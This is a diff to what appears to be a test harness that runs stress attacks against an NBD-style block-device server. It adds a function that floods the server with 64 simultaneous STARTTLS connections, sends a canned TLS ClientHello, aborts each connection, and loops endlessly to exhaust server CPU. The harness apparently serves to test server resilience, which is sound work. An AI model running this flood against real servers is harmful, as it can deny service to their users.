@@ -7,6 +7,8 @@ It says "ready" once the attack is under way.
 
 import importlib.util
 import os
+import socket
+import ssl
 import struct
 import sys
 import threading
@@ -134,9 +136,42 @@ def stalled(target):
         client.send(requests(wire.CMD_READ, [target.middle] * 8, 32 * MIB))
 
 
+def handshakes(target):
+    """Of TLS, 64 at once, each as far as the server's signature: cheap for who never looks at it."""
+    hello = ssl.MemoryBIO()
+    try:
+        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost").do_handshake()
+    except ssl.SSLWantReadError:
+        hello = hello.read()
+
+    def all_at_once():
+        clients = [wire.Wire(target.address, 5) for _ in range(64)]
+        for client in clients:
+            client.greet()
+            client.option(wire.OPT_STARTTLS)
+        for client in clients:
+            client.option_reply()
+        for client in clients:
+            client.send(hello)
+        for client in clients:
+            client.receive(1)
+            client.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            client.close()
+
+    def again():
+        while True:
+            try:
+                all_at_once()
+            except (OSError, wire.Closed):
+                pass
+
+    threading.Thread(target=again, daemon=True).start()
+
+
 kept = []
 ATTACKS = {each.__name__: each for each in (zeroes, trims, holes, flush, disconnect, trickle,
                                             stalled, greedy)}
+IN_TLS = {each.__name__: each for each in (handshakes,)}
 
 
 def main():
@@ -144,7 +179,7 @@ def main():
     if not address.startswith("/"):
         host, port = address.rsplit(":", 1)
         address = (host, int(port))
-    ATTACKS[name](Target(address, export, int(span)))
+    {**ATTACKS, **IN_TLS}[name](Target(address, export, int(span)))
     time.sleep(0.3)
     print("ready", flush=True)
     parent = os.getppid()
